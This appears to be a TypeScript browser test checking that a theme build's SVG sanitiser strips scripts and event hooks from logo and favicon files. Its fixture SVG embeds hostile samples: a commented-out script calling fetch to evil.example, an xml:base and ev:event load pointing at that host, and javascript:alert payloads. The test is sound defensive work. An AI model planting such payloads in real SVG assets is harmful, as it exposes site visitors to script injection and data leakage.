/**
 * The SVGs a theme build serves from the city's own origin (the logo, favicon.svg, safari-pinned-tab.svg),
 * opened in the real headless Chromium from a page on 127.0.0.1: from a logo that tries what the
 * sanitiser quietly drops (XML Events, xml:base, editor namespaces, scripts in comments), no script runs
 * and no request leaves the host, whether the SVG is an <img>, an <object>, an <iframe> or the page itself.
 */
import { createServer, type Server } from "node:http";
import { readFile, writeFile } from "node:fs/promises";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { withLoopbackPage } from "../helpers/browser.js";
import { copyTheme, runCli } from "../helpers/themes.js";

const nearMiss = `<?xml version="1.0"?>
<!-- <script>window.top.ranFromSvg = true; fetch("https://evil.example/comment")</script> -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:ev="http://www.w3.org/2001/xml-events" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
     viewBox="0 0 120 40" xml:base="https://evil.example/" ev:event="load" inkscape:version="1.3" data-x="javascript:alert(1)">
  <title>&lt;script&gt;alert(1)&lt;/script&gt;</title>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#336699"/><stop offset="1" stop-color="#993366"/></linearGradient></defs>
  <style>rect { fill: url(#g); }</style>
  <rect width="120" height="40" inkscape:label="background"/>
  <use href="#g"/>
</svg>
`;

let server: Server;
let base = "";
let cleanup: () => Promise<void> = () => Promise.resolve();
let skinImages = "";

beforeAll(async () => {
  const theme = await copyTheme("exampleville");
  cleanup = theme.cleanup;
  await writeFile(path.join(theme.dir, "logo.svg"), nearMiss);
  await writeFile(path.join(theme.dir, "favicon.svg"), nearMiss);
  const out = path.join(theme.root, "out");
  const r = await runCli(["theme", "build", theme.dir, "--out", out]);
  expect(r.code, r.stderr).toBe(0);
  const webapp = path.join(out, "webapp");
  skinImages = "themes/skin/exampleville/images";
  const page = `<!doctype html><html><body>
    <img id="logo" src="${skinImages}/logo.svg" width="120" height="40">
    <object id="favicon" data="favicon.svg" type="image/svg+xml" width="120" height="40"></object>
    <iframe id="pinned" src="safari-pinned-tab.svg" width="120" height="40"></iframe>
  </body></html>`;
  server = createServer((req, res) => {
    const url = new URL(req.url ?? "/", "http://127.0.0.1");
    if (url.pathname === "/test.html") {
      res.writeHead(200, { "content-type": "text/html" }).end(page);
      return;
    }
    const file = path.join(webapp, path.normalize(decodeURIComponent(url.pathname)).replace(/^(\.\.[/\\])+/, ""));
    if (!file.startsWith(webapp + path.sep)) {
      res.writeHead(403).end();
      return;
    }
    readFile(file).then(
      (data) => res.writeHead(200, { "content-type": file.endsWith(".svg") ? "image/svg+xml" : "application/octet-stream" }).end(data),
      () => res.writeHead(404).end(),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}, 120_000);

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  await cleanup();
});

describe("the built SVGs in Chromium", () => {
  it("run no script and make no request off 127.0.0.1, embedded or opened directly", async () => {
    await withLoopbackPage({ width: 1280, height: 900 }, async (page, offHost) => {
      const dialogs: string[] = [];
      page.on("dialog", (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      await page.goto(`${base}/test.html`, { waitUntil: "networkidle" });
      // The SVGs did load (so the test looks at something), and none of them ran a line of script.
      const seen = await page.evaluate(() => {
        const img = document.getElementById("logo") as HTMLImageElement;
        const object = document.getElementById("favicon") as HTMLObjectElement;
        const frame = document.getElementById("pinned") as HTMLIFrameElement;
        return {
          logoWidth: img.naturalWidth,
          objectScripts: object.contentDocument?.querySelectorAll("script").length ?? -1,
          objectRoot: object.contentDocument?.documentElement.localName ?? "",
          frameScripts: frame.contentDocument?.querySelectorAll("script").length ?? -1,
          frameRoot: frame.contentDocument?.documentElement.localName ?? "",
          ran: (window as unknown as { ranFromSvg?: boolean }).ranFromSvg === true,
        };
      });
      expect(seen.logoWidth).toBeGreaterThan(0);
      expect({ ...seen, logoWidth: "loaded" }).toEqual({ logoWidth: "loaded", objectScripts: 0, objectRoot: "svg", frameScripts: 0, frameRoot: "svg", ran: false });
      for (const direct of [`${skinImages}/logo.svg`, "favicon.svg", "safari-pinned-tab.svg"]) {
        const response = await page.goto(`${base}/${direct}`, { waitUntil: "networkidle" });
        expect(response?.status(), direct).toBe(200);
        const inside = await page.evaluate(() => ({
          root: document.documentElement.localName,
          scripts: document.querySelectorAll("script").length,
          base: document.documentElement.getAttribute("xml:base"),
          handlers: Array.from(document.querySelectorAll("*")).flatMap((el) => Array.from(el.attributes).map((a) => a.name)).filter((n) => /^on|^ev:/i.test(n)),
        }));
        expect(inside, direct).toEqual({ root: "svg", scripts: 0, base: null, handlers: [] });
      }
      expect(dialogs).toEqual([]);
      expect(offHost).toEqual([]);
    });
  });
});
